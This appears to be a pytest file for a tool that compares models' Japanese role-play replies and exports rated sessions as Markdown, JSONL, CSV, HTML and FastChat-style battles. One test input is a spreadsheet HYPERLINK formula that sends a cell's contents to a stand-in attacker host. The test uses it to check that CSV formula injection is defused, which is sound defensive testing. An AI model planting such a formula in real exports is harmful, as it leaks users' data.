"""Every export format parsed back with the Japanese intact; blind notices; no API keys."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import asdict
from html.parser import HTMLParser
from pathlib import Path

import pytest

from backends.base import StreamError
from backends.sent import request_for
from kurabe.cli import main
from kurabe.export.exporter import FORMATS, export_session
from kurabe.session.comparison import ComparisonSession
from kurabe.session.events import PaneFinished, SessionEvent
from kurabe.store.store import Store
from personas import Persona
from scenarios import Scenario, Turn
from tests.fake_backends import FakeBackend, Script, fake_factory, fake_profile
from tests.postgres_support import db_arg

# Every test here runs on SQLite and on PostgreSQL.
pytestmark = pytest.mark.usefixtures("store_engine")

PERSONA = Persona(
    id="anime-fan",
    title="大のアニメファン（友達とタメ口で）",
    system="あなたは大のアニメファンで、友達と会話しています。 返信は短くカジュアルなものにする必要があります。",
    char_name="オタク",
    user_name="ユーザー",
    register="casual",
    max_reply_chars=80,
)
SCENARIO = Scenario(
    id="seed-gpt3",
    title="シード: GPT-3 — 鬼滅とチェンソーマン",
    persona="anime-fan",
    turns=(
        Turn("ねえ、アニメ好きなの？"),
        Turn("私もです！ テーマソングを誰が歌っているか知っていますか？"),
    ),
)
SECRET = "sk-proj-ひみつ-9f8e7d6c5b4a"
GPT_REPLIES = ["うん、大好きだよ！", "「紅蓮華」っていう曲を、LiSAが歌ってるんだよ。"]
CLAUDE_REPLIES = [
    "ああ、俺だってアニメ好きだよ。",
    "あのオープニングテーマ「君はロックを聴かない」だ。```code```",
]


async def build_session(
    store: Store, monkeypatch: pytest.MonkeyPatch, *, blind: bool = False
) -> ComparisonSession:
    monkeypatch.setenv("KURABE_EXPORT_KEY", SECRET)
    profiles = [
        fake_profile("gpt-3.5", api_key_env="KURABE_EXPORT_KEY"),
        fake_profile("claude", backend="anthropic", api_key_env="KURABE_EXPORT_KEY"),
        fake_profile("weblab", local=True, prompt_format="alpaca-ja"),
    ]
    # Each fake records what its kind of backend sends (backends/sent.py); the weblab pane
    # records it as the llama.cpp backend did before the "request" record: its whole sampling.
    backends = {
        "gpt-3.5": FakeBackend(
            "gpt-3.5",
            [Script.text(text, delay_s=0.005) for text in GPT_REPLIES],
            snapshot={"model": "gpt-3.5-turbo", "request": request_for(profiles[0]).record()},
        ),
        "claude": FakeBackend(
            "claude",
            CLAUDE_REPLIES,
            snapshot={
                "token": SECRET,
                "api_key": SECRET,
                "request": request_for(profiles[1]).record(),
            },
        ),
        "weblab": FakeBackend(
            "weblab",
            [
                "### 応答:そうだよ!",
                Script(chunks=("### 指示",), error=StreamError("server error 500", retryable=True)),
            ],
            snapshot={
                "model_file": "weblab-10b-q4.gguf",
                "gpu_layers_offloaded": 0,
                "sampling": asdict(profiles[2].sampling),
            },
        ),
    }
    session = ComparisonSession.create(
        store,
        PERSONA,
        profiles,
        scenario=SCENARIO,
        blind=blind,
        rater="はな",
        backend_factory=fake_factory(backends),
        shuffle_seed=1,
    )
    finished: list[PaneFinished] = []

    def keep(event: SessionEvent) -> None:
        if isinstance(event, PaneFinished):
            finished.append(event)

    session.subscribe(keep)
    await session.send_scenario_turn()
    await session.send_scenario_turn()
    by_text = {f.text: f.reply_id for f in finished}
    session.rate_reply(by_text[GPT_REPLIES[0]], score=5, note="完璧なタメ口")
    session.rate_reply(by_text[GPT_REPLIES[1]], score=4, tags=["wrong-fact"])
    session.rate_reply(by_text[GPT_REPLIES[1]], score=5)
    session.rate_reply(by_text[CLAUDE_REPLIES[1]], score=1, tags=["wrong-fact", "out-of-character"])
    session.rate_reply(by_text["### 応答:そうだよ!"], score=2, tags=["template-leak"])
    position = {p.profile.name: p.index for p in session.panes}
    session.set_verdict(position["gpt-3.5"], "great", "テンポがいい")
    session.set_verdict(position["claude"], "out-of-character", "俺になってる")
    session.set_verdict(position["weblab"], "subpar")
    session.pick_best(0, position["gpt-3.5"])
    session.pick_best(1, "bothbad")
    session.pick_best(1, position["gpt-3.5"])  # re-picked: only the newest counts
    return session


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "kurabe.sqlite3")


async def test_markdown_has_the_seed_page_sections(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await build_session(store, monkeypatch)
    text = export_session(store, session.id, "md")
    sections = re.split(r"^## ", text, flags=re.M)
    header, scores = sections[0], sections[1]
    assert header.startswith("# 比べ kurabe — session")
    assert "シード: GPT-3 — 鬼滅とチェンソーマン" in header
    assert scores.startswith("Scores")
    rows = [line for line in scores.splitlines() if line.startswith("| ") and "---" not in line]
    table = {
        cells[1]: cells for cells in ([c.strip() for c in r.strip("|").split("|")] for r in rows)
    }
    assert table["gpt-3.5"][2] == "Great"
    assert table["gpt-3.5"][3] == "2" and table["gpt-3.5"][4] == "5.00"
    assert table["claude"][2] == "Can't stay in character"
    assert table["gpt-3.5"][5] == "2"  # best picks

    models = {s.splitlines()[0]: s for s in sections[2:]}
    assert set(models) == {"gpt-3.5", "claude", "weblab"}
    gpt = models["gpt-3.5"]
    assert "Quality: Great" in gpt and "Note: テンポがいい" in gpt
    assert "Temp: 0.7" in gpt
    blocks = re.findall(r"^(`{3,})\n(.*?)\n\1$", gpt, flags=re.M | re.S)
    prompt, settings, transcript = (b[1] for b in blocks)
    assert prompt == f"Prompt:\n{PERSONA.system}"
    assert "tokens/s" in settings and "chars/s" in settings
    # What OpenAI's API was sent, and what it was not.
    sampling = settings.splitlines()
    assert "Temperature: 0.7" in sampling and "Top-P: 0.95" in sampling
    assert "Max tokens: 256 (sent as max_completion_tokens)" in sampling
    for label in ("Penalize repeat", "Penalize tokens", "Top-K", "Min-P", "Seed", "Stop"):
        assert f"{label}: model default" in sampling
    assert "ユーザー\nオタク" in settings
    assert transcript.split("\n\n") == [
        "**ユーザー:** ねえ、アニメ好きなの？",
        "**オタク:** うん、大好きだよ！",
        f"**ユーザー:** {SCENARIO.turns[1].text}",
        f"**オタク:** {GPT_REPLIES[1]}",
    ]
    assert "| 1 | complete | 5 素晴らしい |" in gpt and "完璧なタメ口" in gpt

    claude = models["claude"]
    # Claude was sent no sampling at all: no number claims otherwise.
    assert "Temp: model default" in claude
    assert "Temperature: model default" in claude and "Top-K: model default" in claude
    assert "Max tokens: 256" in claude
    assert not re.search(r"(Temp|Temperature|Top-K|Top-P|Min-P|Penalize \w+): \d", claude)
    fences = re.findall(r"^(`{3,})\n(.*?)\n\1$", claude, flags=re.M | re.S)
    assert any("「君はロックを聴かない」だ。```code```" in b[1] for b in fences)
    assert fences[-1][0] == "````"  # a longer fence around a reply containing ```

    weblab = models["weblab"]
    assert "Quality: subpar" in weblab
    assert "[failed: server error 500]" in weblab
    assert "| 2 | failed: server error 500 |" in weblab
    assert "weblab-10b-q4.gguf" in weblab and "Prompt format: alpaca-ja" in weblab
    assert "Temperature: 0.7" in weblab and "Penalize repeat: 1.18" in weblab
    assert "Penalize tokens: 256" in weblab and "Seed: model default" in weblab
    assert "Blind session" not in text


async def test_jsonl_one_record_per_reply_with_ratings(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await build_session(store, monkeypatch)
    records = [json.loads(line) for line in export_session(store, session.id, "jsonl").splitlines()]
    assert len(records) == 6
    gpt = [r for r in records if r["model"] == "gpt-3.5"]
    assert [r["text"] for r in gpt] == GPT_REPLIES
    second = gpt[1]
    assert second["user_text"] == SCENARIO.turns[1].text
    assert [r["score"] for r in second["ratings"]] == [4, 5]
    assert second["latest_rating"]["score"] == 5
    assert second["latest_rating"]["score_label"] == "素晴らしい"
    assert second["latest_rating"]["tags"] == ["wrong-fact"]
    assert second["settings"]["profile"]["sampling"]["temperature"] == 0.7
    assert second["sent"]["temperature"] == 0.7 and second["sent"]["top_k"] == "model default"
    claude = next(r for r in records if r["model"] == "claude")
    assert claude["sent"]["temperature"] == "model default"
    assert claude["sent"]["max_tokens"] == 256
    assert second["settings"]["profile"]["api_key_env"] == "KURABE_EXPORT_KEY"
    assert second["figures"]["chars"] == len(GPT_REPLIES[1])
    assert second["figures"]["chars_per_s"] > 0
    assert second["checks"]["japanese_share"] > 0.9
    assert second["verdict"]["label"] == "Great"
    assert second["pick"] == {
        "outcome": "pane",
        "winner": "gpt-3.5",
        "rater": "はな",
        "blind": False,
    }
    failed = next(r for r in records if r["status"] == "failed")
    assert failed["incomplete"] and failed["text"] == "### 指示" and failed["latest"]
    assert failed["error"] == "server error 500"


async def test_csv_opens_with_japanese_intact(
    store: Store,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    session = await build_session(store, monkeypatch)
    out = tmp_path / "export" / "session.csv"
    code = main(
        ["export", str(session.id), "--format", "csv", "--out", str(out), "--db", db_arg(store)]
    )
    assert code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 6
    claude_second = next(r for r in rows if r["model"] == "claude" and r["turn"] == "2")
    assert claude_second["text"] == CLAUDE_REPLIES[1]
    assert claude_second["score"] == "1" and claude_second["score_label"] == "破綻"
    assert claude_second["tags"] == "wrong-fact out-of-character"
    assert claude_second["verdict"] == "Can't stay in character"
    assert claude_second["verdict_note"] == "俺になってる"
    assert claude_second["pick"] == "not best"
    assert claude_second["temperature"] == "model default"
    assert claude_second["top_k"] == "model default" and claude_second["max_tokens"] == "256"
    assert float(claude_second["japanese_share"]) > 0.5
    gpt_first = next(r for r in rows if r["model"] == "gpt-3.5" and r["turn"] == "1")
    assert gpt_first["note"] == "完璧なタメ口" and gpt_first["pick"] == "best"
    assert (gpt_first["temperature"], gpt_first["top_p"]) == ("0.7", "0.95")
    assert gpt_first["min_p"] == "model default" and gpt_first["seed"] == "model default"
    weblab_first = next(r for r in rows if r["model"] == "weblab" and r["turn"] == "1")
    assert "template-leak" in weblab_first["check_flags"].split()

    capsysbinary.readouterr()
    assert main(["export", str(session.id), "-f", "csv", "--no-bom", "--db", db_arg(store)]) == 0
    printed = capsysbinary.readouterr().out
    assert not printed.startswith(b"\xef\xbb\xbf")
    assert "「紅蓮華」".encode() in printed


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"クリックして")',
    "@SUM(1+1)",
    "+81 90 1234 5678 に電話して",
    "-- ネタバレ注意 --",
    "\tタブで始まる返事",
    "\r改行で始まる返事",
]


@pytest.mark.parametrize("reply", FORMULAS)
async def test_csv_cells_never_run_as_formulas_and_other_formats_stay_exact(
    store: Store, reply: str
) -> None:
    session = ComparisonSession.create(
        store,
        PERSONA,
        [fake_profile("=model")],
        rater="@rater",
        backend_factory=fake_factory({"=model": FakeBackend("=model", [reply])}),
    )
    await session.send("=1+1 って何？")
    [reply_id] = [r.id for r in store.load_record(session.id).replies]
    session.rate_reply(reply_id, score=3, note="-ちょっと変", tags=["+tag"])

    [row] = list(csv.DictReader(io.StringIO(export_session(store, session.id, "csv")[1:])))
    assert row["text"] == "'" + reply
    assert row["user_text"] == "'=1+1 って何？"
    assert row["model"] == "'=model" and row["rater"] == "'@rater"
    assert row["note"] == "'-ちょっと変" and row["tags"] == "'+tag"
    assert row["turn"] == "1" and row["score"] == "3"  # numbers stay numbers
    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), name

    [record] = [
        json.loads(line) for line in export_session(store, session.id, "jsonl").splitlines()
    ]
    assert record["text"] == reply and record["user_text"] == "=1+1 って何？"
    assert reply.strip() in export_session(store, session.id, "md")
    parser = _Collector()
    parser.feed(export_session(store, session.id, "html"))
    assert reply in "".join(parser.text)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.classes: list[str] = []
        self.external: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if values.get("class"):
            self.classes.append(values["class"] or "")
        for key in ("src", "href"):
            if values.get(key):
                self.external.append(values[key] or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


async def test_html_is_self_contained_with_panes_side_by_side(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await build_session(store, monkeypatch)
    page = export_session(store, session.id, "html")
    parser = _Collector()
    parser.feed(page)
    text = "".join(parser.text)
    assert parser.external == []
    assert parser.classes.count("turn") == 2
    assert parser.classes.count("panes") == 2
    assert parser.classes.count("pane best") == 2
    assert GPT_REPLIES[1] in text and "「君はロックを聴かない」だ。```code```" in text
    assert "### 応答:そうだよ!" in text  # escaped, shown as text
    assert "failed: server error 500" in text
    assert "テンポがいい" in text
    assert '<meta charset="utf-8">' in page
    assert "Temperature 0.7 · Top-P 0.95 · Max tokens 256 · model default: " in text
    claude_row = next(row for row in page.splitlines() if "<td>claude</td>" in row)
    assert "model default: Temperature, Penalize repeat" in claude_row
    assert "Temperature 0" not in claude_row


async def test_battles_in_fastchat_shape(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    session = await build_session(store, monkeypatch)
    battles = [
        json.loads(line) for line in export_session(store, session.id, "battles").splitlines()
    ]
    # turn 1: gpt beats both others; turn 2: re-picked gpt (the all-bad pick is superseded)
    assert len(battles) == 4
    for battle in battles:
        assert set(battle) >= {
            "model_a",
            "model_b",
            "winner",
            "judge",
            "turn",
            "anony",
            "language",
            "tstamp",
            "conversation_a",
            "conversation_b",
        }
        assert battle["language"] == "Japanese" and battle["judge"] == "はな"
        assert battle["anony"] is False
        sent = {battle["model_a"]: battle["sent_a"], battle["model_b"]: battle["sent_b"]}
        assert sent["gpt-3.5"]["temperature"] == 0.7
        if "claude" in sent:
            assert sent["claude"]["temperature"] == "model default"
        winner_model = battle[battle["winner"]]
        assert winner_model == "gpt-3.5"
    second = [b for b in battles if b["turn"] == 2]
    assert len(second) == 2
    conv = next(
        b["conversation_a"] if b["model_a"] == "gpt-3.5" else b["conversation_b"] for b in second
    )
    assert conv == [
        {"role": "user", "content": "ねえ、アニメ好きなの？"},
        {"role": "assistant", "content": GPT_REPLIES[0]},
        {"role": "user", "content": SCENARIO.turns[1].text},
        {"role": "assistant", "content": GPT_REPLIES[1]},
    ]


async def test_ties_and_all_bad_give_every_pair(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await build_session(store, monkeypatch)
    session.pick_best(0, "tie")
    session.pick_best(1, "bothbad")
    battles = [
        json.loads(line) for line in export_session(store, session.id, "battles").splitlines()
    ]
    assert (
        sorted((b["turn"], b["winner"]) for b in battles)
        == [(1, "tie")] * 3 + [(2, "tie (bothbad)")] * 3
    )


async def test_blind_unrevealed_exports_say_so_and_hide_names(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await build_session(store, monkeypatch, blind=True)
    names = ("gpt-3.5", "claude", "weblab", "weblab-10b-q4.gguf")
    for fmt in FORMATS:
        text = export_session(store, session.id, fmt)
        assert not any(name in text for name in names), fmt
    md = export_session(store, session.id, "md")
    assert "Blind session, not revealed" in md
    assert "\n## A\n" in md
    # What was sent tells an API pane from a local one: hidden with the names.
    assert md.count("Sampling: hidden until the names are revealed") == 3
    assert "model default" not in md and "Temp:" not in md
    assert "Blind session, not revealed" in export_session(store, session.id, "html")
    record = json.loads(export_session(store, session.id, "jsonl").splitlines()[0])
    assert record["blind_unrevealed"] is True and record["model"] in "ABC"
    rows = list(csv.DictReader(io.StringIO(export_session(store, session.id, "csv")[1:])))
    assert {r["blind_unrevealed"] for r in rows} == {"yes"}
    battle = json.loads(export_session(store, session.id, "battles").splitlines()[0])
    assert battle["anony"] is True and battle["blind_unrevealed"] is True

    revealed_anyway = export_session(store, session.id, "md", reveal_names=True)
    assert "## gpt-3.5" in revealed_anyway
    session.reveal()
    md = export_session(store, session.id, "md")
    assert "Blind session, not revealed" not in md and "## claude" in md
    battle = json.loads(export_session(store, session.id, "battles").splitlines()[0])
    assert battle["anony"] is True and battle["blind_unrevealed"] is False


async def test_exports_never_contain_the_api_key(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await build_session(store, monkeypatch)
    assert SECRET not in store.database.dump_text()
    for fmt in FORMATS:
        assert SECRET not in export_session(store, session.id, fmt), fmt


async def test_export_out_replaces_the_file_whole_or_not_at_all(
    store: Store,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    session = await build_session(store, monkeypatch)
    out = tmp_path / "out" / "session.md"
    out.parent.mkdir()
    out.write_text("an older export that must survive a failed one\n" * 500, encoding="utf-8")
    old = out.read_bytes()
    args = ["export", str(session.id), "--out", str(out), "--db", db_arg(store)]

    def disk_full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("kurabe.export.exporter.os.fsync", disk_full)
        assert main(args) == 2
    assert "No space left on device" in capsys.readouterr().err
    assert out.read_bytes() == old  # no half file
    assert sorted(p.name for p in out.parent.iterdir()) == ["session.md"]  # no leftover

    assert main(args) == 0
    assert out.read_text(encoding="utf-8") == export_session(store, session.id, "md")
    assert sorted(p.name for p in out.parent.iterdir()) == ["session.md"]


@pytest.mark.sqlite_only
async def test_export_refuses_to_overwrite_the_database(
    store: Store,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    session = await build_session(store, monkeypatch)
    db = Path(store.path)
    before = db.read_bytes()
    link = tmp_path / "link.sqlite3"
    link.symlink_to(db)
    for target in (db, link, Path(f"{db}-wal")):
        code = main(["export", str(session.id), "--out", str(target), "--db", str(db)])
        assert code == 2, target
        assert "refusing to write the export over the database" in capsys.readouterr().err
    assert db.read_bytes() == before
    assert Store(db).sessions.exists(session.id)


async def test_sessions_and_export_commands(
    store: Store, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    session = await build_session(store, monkeypatch)
    assert main(["sessions", "--db", db_arg(store)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split("\t") == [
        "id",
        "date",
        "scenario",
        "models",
        "replies",
        "ratings",
        "status",
        "run",
    ]
    cells = lines[1].split("\t")
    assert cells[7] == "-"  # not part of a run
    assert cells[0] == str(session.id) and cells[2] == "seed-gpt3"
    assert cells[3] == "gpt-3.5, claude, weblab"
    assert cells[4] == "5" and cells[5] == str(5 + 3 + 3)
    assert main(["sessions", "--db", db_arg(store), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["models"] == ["gpt-3.5", "claude", "weblab"]
    assert main(["--db", db_arg(store), "export", "last", "-f", "jsonl"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 6
    assert main(["export", "999", "--db", db_arg(store)]) == 2
    assert "no session 999" in capsys.readouterr().err
